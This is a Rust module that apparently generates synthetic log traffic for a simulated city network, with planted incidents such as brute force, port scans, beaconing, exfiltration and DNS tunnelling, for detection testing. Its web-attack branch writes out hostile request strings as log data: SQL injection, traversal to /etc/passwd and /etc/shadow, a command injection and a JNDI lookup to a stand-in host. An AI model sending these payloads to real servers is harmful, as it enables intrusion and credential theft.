//! The records in order of time: what everybody does all day, and the planted incidents among it.
//!
//! Each kind of activity is a Poisson process whose rate follows the hour of the day; an activity writes the records of every device
//! that would see it (the proxy's line, the firewall's, the resolver's, the exporters' flows of both directions).

use std::cmp::{Ordering, Reverse};
use std::collections::BinaryHeap;
use std::net::Ipv4Addr;

use event::Time;

use crate::dice::Dice;
use crate::exporter::{Exporter, Flow, Version};
use crate::incident::{Incident, Kind};
use crate::line::{self, End, Request, Session};
use crate::town::{self, DEVICES};
use crate::{Plan, incident};

const NS_PER_S: i64 = 1_000_000_000;
const NS_PER_MS: i64 = 1_000_000;
/// The ports that Linux gives to those who call (net.ipv4.ip_local_port_range).
const FIRST_PORT: u16 = 32_768;
const LAST_PORT: u16 = 60_999;
const TCP: u8 = 6;
const UDP: u8 = 17;
/// FIN, SYN, PSH and ACK together: a whole conversation.
const WHOLE: u8 = 0x1b;
const SYN: u8 = 0x02;

/// One record as a device sends it.
#[derive(Clone, Debug, Eq, PartialEq)]
pub struct Record {
    /// When it is sent.
    pub time: Time,
    /// Who sends it: an index into [`DEVICES`].
    pub device: usize,
    /// The message or datagram, without framing.
    pub bytes: Vec<u8>,
}

/// A record, or a flow on its way to its exporter, that waits for its time. Ordered by time, then by when it was made, so that the order
/// is total and repeatable.
struct Waiting {
    time: Time,
    number: u64,
    device: usize,
    what: What,
}

enum What {
    Bytes(Vec<u8>),
    Flow(Flow),
}

impl Waiting {
    fn key(&self) -> (Time, u64) {
        (self.time, self.number)
    }
}

impl PartialEq for Waiting {
    fn eq(&self, other: &Waiting) -> bool {
        self.key() == other.key()
    }
}

impl Eq for Waiting {}

impl PartialOrd for Waiting {
    fn partial_cmp(&self, other: &Waiting) -> Option<Ordering> {
        Some(self.cmp(other))
    }
}

impl Ord for Waiting {
    fn cmp(&self, other: &Waiting) -> Ordering {
        self.key().cmp(&other.key())
    }
}

#[derive(Clone, Copy, Debug)]
enum Activity {
    Web,
    Query,
    Screen,
    Numbers,
    Link,
    Mail,
    PublicSite,
    Portal,
    Noise,
    Login,
    Vpn,
    Sensor,
    Housekeeping,
    Mark,
    Export,
}

const ACTIVITIES: [Activity; 15] = [
    Activity::Web,
    Activity::Query,
    Activity::Screen,
    Activity::Numbers,
    Activity::Link,
    Activity::Mail,
    Activity::PublicSite,
    Activity::Portal,
    Activity::Noise,
    Activity::Login,
    Activity::Vpn,
    Activity::Sensor,
    Activity::Housekeeping,
    Activity::Mark,
    Activity::Export,
];

/// How often servers say that they are there, in the time of the day: rsyslog's default for its module `immark`, 20 minutes.
const MARK_NS: i64 = 1200 * NS_PER_S;

/// The records of a plan, by their time.
pub struct Traffic {
    plan: Plan,
    end: Time,
    dice: Dice,
    next: [Time; ACTIVITIES.len()],
    waiting: BinaryHeap<Reverse<Waiting>>,
    made: u64,
    session: u32,
    last_port: u16,
    exporters: [(usize, Exporter); 3],
    silence: Option<(usize, Time)>,
}

impl Traffic {
    pub(crate) fn new(plan: Plan) -> Traffic {
        let boot = plan.start.plus_ns(-86_400 * NS_PER_S);
        let incidents = incident::planted(&plan);
        let silence = incidents.iter().find_map(|incident| {
            let index = DEVICES.iter().position(|device| Some(device.name) == incident.device)?;
            Some((index, incident.start))
        });
        let mut traffic = Traffic {
            plan,
            end: plan.start.plus_ns(i64::from(plan.length_s) * NS_PER_S),
            dice: Dice::new(plan.seed, 0),
            next: [plan.start; ACTIVITIES.len()],
            waiting: BinaryHeap::new(),
            made: 0,
            session: 1000,
            last_port: FIRST_PORT,
            exporters: [
                (town::FLOW_EDGE, Exporter::new(Version::V9, 1, boot)),
                (town::FLOW_CORE, Exporter::new(Version::Ipfix, 2, boot)),
                (town::FLOW_MYNUMBER, Exporter::new(Version::V5, 3, boot)),
            ],
            silence,
        };
        for (index, activity) in ACTIVITIES.into_iter().enumerate() {
            traffic.next[index] = traffic.after(plan.start, activity);
        }
        for incident in &incidents {
            traffic.play(incident);
        }
        traffic
    }

    /// How busy offices are at this instant, from 0.03 at night to 1: JST hours, with a dip at lunch.
    fn busy(&self, time: Time) -> f64 {
        let passed_s = time.since_ns(self.plan.start) as f64 / 1e9 * f64::from(self.plan.day_speed);
        let first_s = match self.plan.hour {
            Some(hour) => f64::from(hour) * 3600.0,
            None => (self.plan.start.unix_s() + 9 * 3600).rem_euclid(86_400) as f64,
        };
        let hour = ((first_s + passed_s) / 3600.0) % 24.0;
        const BY_HOUR: [f64; 24] = [
            0.03, 0.03, 0.03, 0.03, 0.03, 0.04, 0.06, 0.15, 0.7, 0.95, 1.0, 0.95, 0.5, 0.9, 1.0, 0.95, 0.9, 0.7, 0.35, 0.2, 0.12,
            0.08, 0.05, 0.04,
        ];
        let (at, part) = (hour as usize % 24, hour.fract());
        BY_HOUR[at] * (1.0 - part) + BY_HOUR[(at + 1) % 24] * part
    }

    /// Times a second on average.
    fn rate(&self, activity: Activity, time: Time) -> f64 {
        let terminals = f64::from(self.plan.terminals);
        let busy = self.busy(time);
        match activity {
            Activity::Web => 0.08 * terminals * busy,
            Activity::Query => 0.05 * terminals * busy,
            Activity::Screen => 0.02 * terminals * busy,
            Activity::Numbers => 0.01 * terminals * busy + 0.05,
            Activity::Link => 0.05 + 0.2 * busy,
            Activity::Mail => 0.2 + 0.005 * terminals * busy,
            Activity::PublicSite => 1.0 + 4.0 * busy,
            Activity::Portal => 0.05 + 0.01 * terminals * busy,
            Activity::Noise => 1.0,
            Activity::Login => 0.05 + 0.05 * busy,
            Activity::Vpn => 0.02 + 0.05 * busy,
            Activity::Sensor => 0.1,
            Activity::Housekeeping => 0.5,
            // Neither is by chance: see `after`.
            Activity::Mark | Activity::Export => 2.0,
        }
    }

    fn after(&mut self, time: Time, activity: Activity) -> Time {
        let rate = self.rate(activity, time);
        let wait_ns = match activity {
            Activity::Export => NS_PER_S / 2,
            Activity::Mark => (MARK_NS / i64::from(self.plan.day_speed.max(1))).max(NS_PER_S / 4),
            _ => self.dice.wait_ns(rate),
        };
        time.plus_ns(wait_ns)
    }

    fn say(&mut self, time: Time, device: usize, line: String) {
        self.send(time, device, line.into_bytes());
    }

    fn send(&mut self, time: Time, device: usize, bytes: Vec<u8>) {
        self.wait(time, device, What::Bytes(bytes));
    }

    fn wait(&mut self, time: Time, device: usize, what: What) {
        if time >= self.end || self.silence.is_some_and(|(silent, from)| silent == device && time >= from) {
            return;
        }
        self.made += 1;
        self.waiting.push(Reverse(Waiting { time, number: self.made, device, what }));
    }

    fn session(&mut self, from: End, to: End, protocol: u8, seconds: u32, sent: u64, received: u64) -> Session {
        self.session = self.session.wrapping_add(1);
        Session { id: self.session, from, to, protocol, seconds, sent, received }
    }

    /// Both directions of a conversation that ends at `time`, as the exporter `which` saw it.
    fn flow(&mut self, time: Time, which: usize, s: &Session) {
        let start = time.plus_ns(-i64::from(s.seconds) * NS_PER_S - 20 * NS_PER_MS);
        let tcp_flags = if s.protocol == TCP { WHOLE } else { 0 };
        let ways = [(s.from, s.to, s.sent), (s.to, s.from, s.received)];
        for (from, to, bytes) in ways.into_iter().filter(|way| way.2 > 0) {
            let flow = Flow { from, to, protocol: s.protocol, tcp_flags, bytes, packets: bytes / 1000 + 1, start, end: time };
            self.export(time, which, flow);
        }
    }

    /// Gives a flow to its exporter when its time has come.
    fn export(&mut self, time: Time, which: usize, flow: Flow) {
        self.wait(time, which, What::Flow(flow));
    }

    /// A port to call from. One after the other, as systems give them out: none comes again while what it was used for may go on.
    fn port(&mut self) -> u16 {
        self.last_port = if self.last_port >= LAST_PORT { FIRST_PORT } else { self.last_port + 1 };
        self.last_port
    }

    fn terminal(&mut self) -> Ipv4Addr {
        let internet = (self.plan.terminals / 2).max(1);
        town::internet_terminal(self.dice.range(0, internet))
    }

    fn act(&mut self, time: Time, activity: Activity) {
        match activity {
            Activity::Web => self.web(time),
            Activity::Query => self.query(time),
            Activity::Screen => self.screen(time),
            Activity::Numbers => self.numbers(time),
            Activity::Link => self.link(time),
            Activity::Mail => self.mail(time),
            Activity::PublicSite => self.public_site(time),
            Activity::Portal => self.portal(time),
            Activity::Noise => self.noise(time),
            Activity::Login => self.login(time),
            Activity::Vpn => self.vpn(time),
            Activity::Sensor => self.sensor(time),
            Activity::Housekeeping => self.housekeeping(time),
            Activity::Mark => self.mark(time),
            Activity::Export => {
                for at in 0..self.exporters.len() {
                    let (device, exporter) = &mut self.exporters[at];
                    let device = *device;
                    if let Some(packet) = exporter.flush(time) {
                        self.send(time, device, packet);
                    }
                }
            }
        }
    }

    /// A terminal opens a page: query, proxy line, firewall session, flows on both sides of the proxy.
    fn web(&mut self, time: Time) {
        let client = self.terminal();
        let site_number = self.dice.range(0, town::SITES.len() as u32);
        let site = town::SITES[site_number as usize];
        let peer = town::outside(site_number * 37);
        let path = self.dice.pick(town::PATHS);
        let (sent, received) = (self.dice.size(900), self.dice.size(14_000));
        let elapsed_ms = self.dice.range(15, 1500);
        let end = time.plus_ns(i64::from(elapsed_ms) * NS_PER_MS);
        if self.dice.chance(0.4) {
            let port = self.port();
            self.say(time, town::DNS, line::bind_query(time, End(town::PROXY_ADDRESS, port), site, "A"));
        }
        self.fetch(end, client, peer, site, path, sent, received, elapsed_ms);
    }

    #[expect(clippy::too_many_arguments, reason = "one conversation told in the words of five devices")]
    fn fetch(
        &mut self,
        end: Time,
        client: Ipv4Addr,
        peer: Ipv4Addr,
        site: &str,
        path: &str,
        sent: u64,
        received: u64,
        elapsed_ms: u32,
    ) {
        let encrypted = self.dice.chance(0.8);
        let url = if encrypted { format!("{site}:443") } else { format!("http://{site}{path}") };
        let method = if encrypted { "CONNECT" } else { "GET" };
        let agent = self.dice.pick(town::AGENTS);
        let status = if self.dice.chance(0.96) { 200 } else { 404 };
        let request = Request { client, method, url: &url, status, bytes: received, agent };
        self.say(end, town::PROXY, line::squid(end, &request, elapsed_ms, peer));
        let inner_port = self.port();
        let inner =
            self.session(End(client, inner_port), End(town::PROXY_ADDRESS, 8080), TCP, elapsed_ms / 1000 + 1, sent, received);
        self.say(end, town::FW_CORE, line::fortigate_traffic(end, &inner, "close", "HTTP-PROXY"));
        self.flow(end, town::FLOW_CORE, &inner);
        let outer_port = self.port();
        let port = if encrypted { 443 } else { 80 };
        let outer =
            self.session(End(town::PROXY_ADDRESS, outer_port), End(peer, port), TCP, elapsed_ms / 1000 + 1, sent, received);
        self.flow(end, town::FLOW_EDGE, &outer);
    }

    fn query(&mut self, time: Time) {
        let client = self.terminal();
        let port = self.port();
        let name = self.dice.pick(town::SITES);
        let kind = self.dice.pick(&["A", "A", "A", "AAAA", "HTTPS"]);
        self.say(time, town::DNS, line::bind_query(time, End(client, port), name, kind));
        let session = self.session(End(client, port), End(town::DNS_ADDRESS, 53), UDP, 0, 70, 180);
        self.flow(time.plus_ns(8 * NS_PER_MS), town::FLOW_CORE, &session);
    }

    /// A terminal of the LGWAN zone uses the Internet by screen transfer.
    fn screen(&mut self, time: Time) {
        let lgwan = (self.plan.terminals * 35 / 100).max(1);
        let client = town::lgwan_terminal(self.dice.range(0, lgwan));
        let port = self.port();
        let (sent, received) = (self.dice.size(20_000), self.dice.size(400_000));
        let id = self.dice.range(0, 65_536);
        let to = End(town::SANITISER_ADDRESS, 443);
        self.say(time, town::FW_LGWAN, line::netfilter(time, "fw-lgwan", "LGWAN-ACCEPT", End(client, port), to, id));
        let seconds = self.dice.range(1, 30);
        let session = self.session(End(client, port), to, TCP, seconds, sent, received);
        self.flow(time.plus_ns(i64::from(seconds) * NS_PER_S), town::FLOW_CORE, &session);
        // The other leg: the sanitiser shows what the browser's server in the Internet zone draws.
        let server = End(town::SCREEN_SERVER_ADDRESS, 443);
        let session = self.session(End(town::SANITISER_ADDRESS, port), server, TCP, seconds, sent, received);
        self.flow(time.plus_ns(i64::from(seconds) * NS_PER_S), town::FLOW_CORE, &session);
    }

    /// A terminal of the My-Number zone asks its database, inside the zone.
    fn numbers(&mut self, time: Time) {
        let count = (self.plan.terminals * 15 / 100).max(1);
        let client = town::mynumber_terminal(self.dice.range(0, count));
        let port = self.port();
        let (sent, received) = (self.dice.size(2000), self.dice.size(30_000));
        let session = self.session(End(client, port), End(Ipv4Addr::new(10, 1, 5, 20), 1433), TCP, 2, sent, received);
        self.flow(time, town::FLOW_MYNUMBER, &session);
    }

    /// The one exception of the policy: the address link between the My-Number and the LGWAN zone.
    fn link(&mut self, time: Time) {
        let port = self.port();
        let from = End(Ipv4Addr::new(10, 1, 5, 10), port);
        let (sent, received) = (self.dice.size(5000), self.dice.size(5000));
        let session = self.session(from, End(Ipv4Addr::new(10, 2, 8, 4), 1433), TCP, 1, sent, received);
        self.flow(time, town::FLOW_MYNUMBER, &session);
    }

    fn mail(&mut self, time: Time) {
        let peer = town::outside(self.dice.range(0, 3000));
        let port = self.port();
        let user = self.dice.pick(town::USERS);
        let site = self.dice.pick(town::SITES);
        let id = self.dice.letters(10).to_uppercase();
        let size = self.dice.size(30_000);
        let say = |traffic: &mut Traffic, ms: i64, tag: &str, text: String| {
            let at = time.plus_ns(ms * NS_PER_MS);
            traffic.say(at, town::MAIL, line::syslog(22, at, "mail1", tag, &text));
        };
        say(self, 0, "postfix/smtpd[2201]", format!("connect from mx.{site}[{peer}]"));
        say(self, 60, "postfix/smtpd[2201]", format!("{id}: client=mx.{site}[{peer}]"));
        say(self, 90, "postfix/qmgr[1180]", format!("{id}: from=<info@{site}>, size={size}, nrcpt=1 (queue active)"));
        let delivery = format!(
            "{id}: to=<{user}@city.example.jp>, relay=mbox.city.example.jp[10.3.10.12]:24, delay=0.4, delays=0.1/0/0.1/0.2, dsn=2.0.0, \
             status=sent (250 2.0.0 OK)"
        );
        say(self, 400, "postfix/lmtp[2210]", delivery);
        let session = self.session(End(peer, port), End(town::MAIL_ADDRESS, 25), TCP, 1, size, 900);
        let end = time.plus_ns(500 * NS_PER_MS);
        self.say(end, town::FW_EDGE, line::asa_teardown(end, &session, "outside", "dmz"));
        self.flow(end, town::FLOW_EDGE, &session);
    }

    fn public_site(&mut self, time: Time) {
        let client = town::outside(self.dice.range(0, 30_000));
        let path = self.dice.pick(town::PATHS);
        let status = if self.dice.chance(0.97) { 200 } else { 404 };
        let bytes = self.dice.size(9000);
        self.visit(time, client, path, status, bytes, None);
    }

    fn visit(&mut self, time: Time, client: Ipv4Addr, url: &str, status: u16, bytes: u64, agent: Option<&str>) {
        let agent = agent.unwrap_or_else(|| self.dice.pick(town::AGENTS));
        let request = Request { client, method: "GET", url, status, bytes, agent };
        let text = line::combined(time, &request, "-");
        self.say(time, town::WWW, line::syslog_5424(190, time, "www1", "nginx", &text));
        let port = self.port();
        let session = self.session(End(client, port), End(town::WWW_ADDRESS, 443), TCP, 1, 800, bytes);
        let end = time.plus_ns(NS_PER_S);
        self.say(end, town::FW_EDGE, line::asa_teardown(end, &session, "outside", "dmz"));
        self.flow(end, town::FLOW_EDGE, &session);
    }

    fn portal(&mut self, time: Time) {
        let client = self.terminal();
        let user = self.dice.pick(town::USERS);
        let path = self.dice.pick(&["/portal/", "/portal/schedule", "/portal/notice?id=311", "/portal/leave/apply"]);
        let agent = self.dice.pick(town::AGENTS);
        let bytes = self.dice.size(6000);
        let request = Request { client, method: "GET", url: path, status: 200, bytes, agent };
        self.say(time, town::PORTAL, line::syslog(134, time, "portal1", "httpd[1409]", &line::combined(time, &request, user)));
        let port = self.port();
        let session = self.session(End(client, port), End(town::PORTAL_ADDRESS, 443), TCP, 1, 900, bytes);
        self.flow(time, town::FLOW_CORE, &session);
    }

    /// What the Internet sends to everybody: one packet here, one there, denied at the edge.
    fn noise(&mut self, time: Time) {
        let from = town::outside(self.dice.range(0, 120_000));
        let port = self.port();
        let to = self.dice.pick(&[town::WWW_ADDRESS, town::MAIL_ADDRESS, town::PORTAL_ADDRESS, town::DNS_ADDRESS]);
        let wanted = self.dice.pick(&[23, 445, 3389, 5900, 8088, 2323, 6379]);
        self.say(time, town::FW_EDGE, line::asa_deny(time, "tcp", End(from, port), End(to, wanted)));
        let flow = Flow {
            from: End(from, port),
            to: End(to, wanted),
            protocol: TCP,
            tcp_flags: SYN,
            bytes: 44,
            packets: 1,
            start: time,
            end: time,
        };
        self.export(time, town::FLOW_EDGE, flow);
    }

    /// An administrator logs in to a server, now and then mistyping the password once.
    fn login(&mut self, time: Time) {
        let server = self.dice.pick(&town::SERVERS);
        let admin = self.dice.pick(town::ADMINS);
        let from = Ipv4Addr::new(10, 3, 200, self.dice.range(10, 20) as u8);
        let port = self.port();
        let host = DEVICES[server].name;
        let pid = self.dice.range(1000, 60_000);
        let tag = format!("sshd[{pid}]");
        if self.dice.chance(0.1) {
            let text = format!("Failed password for {admin} from {from} port {port} ssh2");
            self.say(time, server, line::syslog(38, time, host, &tag, &text));
        }
        let at = time.plus_ns(3 * NS_PER_S);
        let text = format!("Accepted password for {admin} from {from} port {port} ssh2");
        self.say(at, server, line::syslog(38, at, host, &tag, &text));
        let text = format!("pam_unix(sshd:session): session opened for user {admin}(uid=1001) by (uid=0)");
        self.say(at, server, line::syslog(86, at, host, &tag, &text));
        let at = time.plus_ns(9 * NS_PER_S);
        let text = format!("{admin} : TTY=pts/0 ; PWD=/home/{admin} ; USER=root ; COMMAND=/usr/bin/systemctl status backup");
        self.say(at, server, line::syslog(85, at, host, "sudo", &text));
    }

    fn vpn(&mut self, time: Time) {
        let user = self.dice.pick(town::USERS);
        let remote = town::outside(self.dice.range(40_000, 41_000));
        let tunnel = Ipv4Addr::new(10, 3, 220, self.dice.range(10, 250) as u8);
        let action = self.dice.pick(&["tunnel-up", "tunnel-down"]);
        self.say(time, town::FW_CORE, line::fortigate_vpn(time, user, remote, action, tunnel));
    }

    fn sensor(&mut self, time: Time) {
        let from = End(town::outside(self.dice.range(0, 30_000)), self.port());
        let signature = self.dice.pick(&[
            (2_210_045, "SURICATA STREAM Packet with invalid ack", "Generic Protocol Command Decode", 3),
            (2_221_010, "SURICATA HTTP unable to match response to request", "Generic Protocol Command Decode", 3),
            (2_013_028, "POLICY curl User-Agent Outbound", "Attempted Information Leak", 2),
        ]);
        let flow = self.dice.range(1, u32::MAX);
        self.say(time, town::IDS, line::eve_alert(time, from, End(town::WWW_ADDRESS, 443), signature, flow));
    }

    fn housekeeping(&mut self, time: Time) {
        let server = self.dice.pick(&town::SERVERS);
        let host = DEVICES[server].name;
        let (tag, text) = self.dice.pick(&[
            ("CRON[4411]", "(root) CMD (/usr/lib/sysstat/sa1 1 1)"),
            ("systemd[1]", "Started logrotate.service - Rotate log files."),
            ("chronyd[611]", "Selected source 172.20.1.123"),
            ("CRON[4420]", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"),
        ]);
        self.say(time, server, line::syslog(78, time, host, tag, text));
    }

    /// Every server says that it is there.
    fn mark(&mut self, time: Time) {
        for server in town::SERVERS {
            self.say(time, server, line::syslog(46, time, DEVICES[server].name, "rsyslogd", "-- MARK --"));
        }
    }

    /// Writes all records of a planted incident. They are few; the heap holds them until their time.
    fn play(&mut self, incident: &Incident) {
        let mut own = Dice::new(self.plan.seed, 2000 + incident.kind as u64);
        let (Some(source), Some(destination)) = (incident.source, incident.destination) else { return };
        let length_ns = incident.end.since_ns(incident.start);
        let steps = |count: u32| (0..count).map(move |n| incident.start.plus_ns(length_ns / i64::from(count) * i64::from(n)));
        match incident.kind {
            Kind::BruteForce => {
                let server = town::SERVERS[1];
                let host = DEVICES[server].name;
                for (n, at) in steps(41).enumerate() {
                    let port = 40_000 + n as u16;
                    let pid = 7000 + n;
                    let user = if n % 3 == 0 { "invalid user admin" } else { town::ADMINS[1] };
                    let text = match n {
                        40 => format!("Accepted password for {} from {source} port {port} ssh2", town::ADMINS[1]),
                        _ => format!("Failed password for {user} from {source} port {port} ssh2"),
                    };
                    self.say(at, server, line::syslog(38, at, host, &format!("sshd[{pid}]"), &text));
                    let session = self.session(End(source, port), End(destination, 22), TCP, 1, 2000, 2400);
                    self.say(at, town::FW_EDGE, line::asa_teardown(at, &session, "outside", "dmz"));
                }
            }
            Kind::PortScan => {
                for (n, at) in steps(300).enumerate() {
                    let port = 1 + 7 * n as u16;
                    if matches!(port, 22 | 25 | 80 | 443 | 10_443) {
                        continue;
                    }
                    self.say(at, town::FW_EDGE, line::asa_deny(at, "tcp", End(source, 51_000), End(destination, port)));
                }
            }
            Kind::Beacon => {
                let period_ns = (length_ns / 40).clamp(NS_PER_S, 60 * NS_PER_S);
                let mut at = incident.start;
                while at < incident.end {
                    let jitter_ns = i64::from(own.range(0, 100)) * period_ns / 1000;
                    self.fetch(at.plus_ns(jitter_ns), source, destination, "cdn-sync.example.net", "/", 412, 1180, 90);
                    at = at.plus_ns(period_ns);
                }
            }
            Kind::Exfiltration => {
                for at in steps(3) {
                    let end = at.plus_ns(length_ns / 4);
                    self.fetch(end, source, destination, "storage.example.net", "/upload", 2_600_000_000, 90_000, 20_000);
                }
            }
            Kind::LgwanDirect => {
                for (n, at) in steps(3).enumerate() {
                    let (from, to) = (End(source, 52_000 + n as u16), End(destination, 443));
                    self.say(at, town::FW_LGWAN, line::netfilter(at, "fw-lgwan", "LGWAN-ACCEPT", from, to, 7));
                    let session = self.session(from, to, TCP, 1, 8000, 52_000);
                    self.flow(at, town::FLOW_EDGE, &session);
                }
            }
            Kind::MynumberFlow => {
                let session = self.session(End(source, 52_100), End(destination, 445), TCP, 4, 180_000, 22_000);
                self.flow(incident.start.plus_ns(length_ns / 2), town::FLOW_MYNUMBER, &session);
            }
            Kind::DnsTunnel => {
                for (n, at) in steps(240).enumerate() {
                    let name = format!("{}.{}.t.example-sync.net", own.letters(50), own.letters(40));
                    let kind = if n % 2 == 0 { "TXT" } else { "NULL" };
                    self.say(at, town::DNS, line::bind_query(at, End(source, 53_000), &name, kind));
                }
            }
            Kind::WebAttack => {
                const TRIES: [&str; 8] = [
                    "/search?q=1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--",
                    "/search?q=1+UNION+ALL+SELECT+1,2,version()",
                    "/kurashi/../../../../etc/passwd",
                    "/download?file=../../../../etc/shadow",
                    "/cgi-bin/test.cgi?cmd=;cat%20/etc/passwd",
                    "/index.php?page=php://filter/convert.base64-encode/resource=config",
                    "/news/?id=1%20AND%20SLEEP(5)",
                    "/?x=${jndi:ldap://203.0.113.66/a}",
                ];
                for (n, at) in steps(24).enumerate() {
                    let url = TRIES[n % TRIES.len()];
                    self.visit(
                        at,
                        source,
                        url,
                        if n % 5 == 0 { 403 } else { 404 },
                        320,
                        Some("sqlmap/1.9#stable (https://sqlmap.org)"),
                    );
                }
                let signature =
                    (2_006_446, "WEB_SERVER Possible SQL Injection Attempt UNION SELECT", "Web Application Attack", 1);
                let at = incident.start.plus_ns(NS_PER_S);
                self.say(at, town::IDS, line::eve_alert(at, End(source, 44_444), End(destination, 443), signature, 99));
            }
            Kind::SilentDevice => {}
        }
    }
}

impl Iterator for Traffic {
    type Item = Record;

    fn next(&mut self) -> Option<Record> {
        loop {
            let (index, time) = self.next.iter().copied().enumerate().min_by_key(|(_, time)| *time)?;
            if self.waiting.peek().is_some_and(|Reverse(first)| first.time <= time || time >= self.end) {
                let Reverse(Waiting { time, device, what, .. }) = self.waiting.pop()?;
                match what {
                    What::Bytes(bytes) => return Some(Record { time, device, bytes }),
                    What::Flow(flow) => {
                        let exporter = self.exporters.iter_mut().find(|(which, _)| *which == device);
                        if let Some(bytes) = exporter.and_then(|(_, exporter)| exporter.add(flow, time)) {
                            return Some(Record { time, device, bytes });
                        }
                        continue;
                    }
                }
            }
            if time >= self.end {
                return None;
            }
            let activity = ACTIVITIES[index];
            self.act(time, activity);
            self.next[index] = self.after(time, activity);
        }
    }
}
